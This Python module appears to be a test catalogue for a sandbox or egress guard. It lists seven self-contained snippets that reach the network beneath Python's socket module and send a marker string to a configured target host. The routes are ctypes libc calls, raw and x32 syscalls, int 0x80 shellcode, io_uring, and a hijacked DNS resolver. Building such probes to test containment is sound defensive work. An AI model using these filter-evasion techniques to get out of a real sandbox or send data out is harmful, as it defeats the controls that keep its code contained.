"""Ways out beneath Python: the C library, and the system's core without it."""

from __future__ import annotations

from dobotkit.guard.escapes.escape import family

__all__ = ["BENEATH"]

# Each is whole: nothing is imported from here, so that it can be copied into any cell.
BENEATH = family(
    "beneath Python",
    (
        "ctypes-connect",
        "connect() of the C library, by ctypes",
        """
        import ctypes
        import socket
        import struct

        c = ctypes.CDLL(None)
        host, port = TARGET["tcp"]
        address = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
        way = c.socket(2, 1, 0)
        c.connect(way, address, 16)
        c.send(way, TARGET["mark"].encode(), len(TARGET["mark"]), 0)
        c.close(way)
        """,
    ),
    (
        "ctypes-udp",
        "sendto() of the C library, by ctypes",
        """
        import ctypes
        import socket
        import struct

        c = ctypes.CDLL(None)
        host, port = TARGET["udp"]
        address = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
        way = c.socket(2, 2, 0)
        c.sendto(way, TARGET["mark"].encode(), len(TARGET["mark"]), 0, address, 16)
        c.close(way)
        """,
    ),
    (
        "raw-syscall",
        "system calls by their numbers",
        """
        import ctypes
        import platform
        import socket
        import struct

        call = ctypes.CDLL(None).syscall
        numbers = {"x86_64": (41, 42, 1), "aarch64": (198, 203, 64)}
        new, connect, write = numbers[platform.machine()]
        host, port = TARGET["tcp"]
        address = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
        way = call(new, 2, 1, 0)
        call(connect, way, address, 16)
        call(write, way, TARGET["mark"].encode(), len(TARGET["mark"]))
        call(3 if platform.machine() == "x86_64" else 57, way)
        """,
    ),
    (
        "x32-syscall",
        "system calls by the numbers of another kind of program (x32)",
        """
        import ctypes
        import socket
        import struct

        call = ctypes.CDLL(None).syscall
        host, port = TARGET["x32"]
        address = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
        way = call(0x40000000 + 41, 2, 1, 0)
        call(0x40000000 + 42, way, address, 16)
        call(0x40000000 + 1, way, TARGET["mark"].encode(), len(TARGET["mark"]))
        """,
    ),
    (
        "int-80",
        "system calls of 32-bit programs, in machine code",
        """
        import ctypes
        import mmap
        import os
        import socket
        import struct

        # What the calls read has to lie below 4 GB: flag 0x40 asks for such a place.
        low = ctypes.CDLL(None).mmap
        low.restype, low.argtypes = ctypes.c_void_p, [ctypes.c_void_p] + 5 * [ctypes.c_long]
        place = low(None, 4096, 7, 0x62, -1, 0)
        # push rbx; mov eax, edi; mov ebx, esi; xchg ecx, edx; int 0x80; pop rbx; ret
        code = bytes.fromhex("53 89f8 89f3 87ca cd80 5b c3")
        host, port = TARGET["int80"]
        word = TARGET["mark"].encode()
        address = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
        ctypes.memmove(place, code, len(code))
        ctypes.memmove(place + 1024, address, 16)
        ctypes.memmove(place + 2048, word, len(word))
        call = ctypes.CFUNCTYPE(ctypes.c_int, *4 * [ctypes.c_uint])(place)
        child = os.fork()  # a wall may answer by ending whoever tries
        if child == 0:
            way = call(359, 2, 1, 0)  # socket
            call(362, way, place + 1024, 16)  # connect
            call(4, way, place + 2048, len(word))  # write
            os._exit(0)
        os.waitpid(child, 0)
        """,
    ),
    (
        "io-uring",
        "io_uring: asking the system's core by notes in shared memory",
        """
        import ctypes
        import mmap
        import os
        import socket
        import struct

        call = ctypes.CDLL(None).syscall
        about = ctypes.create_string_buffer(120)
        ring = call(425, 4, about)  # io_uring_setup
        if ring < 0:
            raise OSError("no io_uring")
        entries = struct.unpack_from("I", about, 0)[0]
        sq = struct.unpack_from("10I", about, 40)  # where head, tail, mask ... lie
        cq = struct.unpack_from("10I", about, 80)
        shared = mmap.mmap(ring, max(sq[6] + 4 * entries, cq[5] + 32 * entries), offset=0)
        notes = mmap.mmap(ring, 64 * entries, offset=0x10000000)

        def ask(what, fd, place, length, more=0):
            tail = struct.unpack_from("I", shared, sq[1])[0]
            slot = tail % entries
            note = (what, 0, 0, fd, more, place, length, 0, 0)
            struct.pack_into("BBHiQQIIQ", notes, 64 * slot, *note)
            struct.pack_into("I", shared, sq[6] + 4 * slot, slot)
            struct.pack_into("I", shared, sq[1], tail + 1)
            call(426, ring, 1, 1, 1, None, 0)  # io_uring_enter: hand in one, wait for one
            head = struct.unpack_from("I", shared, cq[0])[0]
            mask = struct.unpack_from("I", shared, cq[2])[0]
            answer = struct.unpack_from("i", shared, cq[5] + 16 * (head & mask) + 8)[0]
            struct.pack_into("I", shared, cq[0], head + 1)
            return answer

        host, port = TARGET["tcp"]
        address = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
        address = ctypes.create_string_buffer(address)
        word = ctypes.create_string_buffer(TARGET["mark"].encode())
        way = ask(45, 2, 0, 0, more=1)  # socket
        ask(16, way, ctypes.addressof(address), 0, more=16)  # connect
        ask(26, way, ctypes.addressof(word), len(TARGET["mark"]))  # send
        ask(19, way, 0, 0)  # close
        os.close(ring)
        """,
    ),
    (
        "resolver",
        "the C library's own look-up of names, led to another name server",
        """
        import ctypes
        import socket
        import struct

        c = ctypes.CDLL(None)
        c.__res_state.restype = ctypes.c_void_p
        c.__res_init()
        state = c.__res_state()
        host, port = TARGET["dns"]
        server = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
        ctypes.memmove(state, struct.pack("ii", 1, 1), 8)  # be quick
        ctypes.memmove(state + 16, struct.pack("i", 1) + server, 20)
        name = TARGET["mark"].encode() + b".example"
        c.res_query(name, 1, 1, ctypes.create_string_buffer(512), 512)
        c.__res_init()
        """,
    ),
)
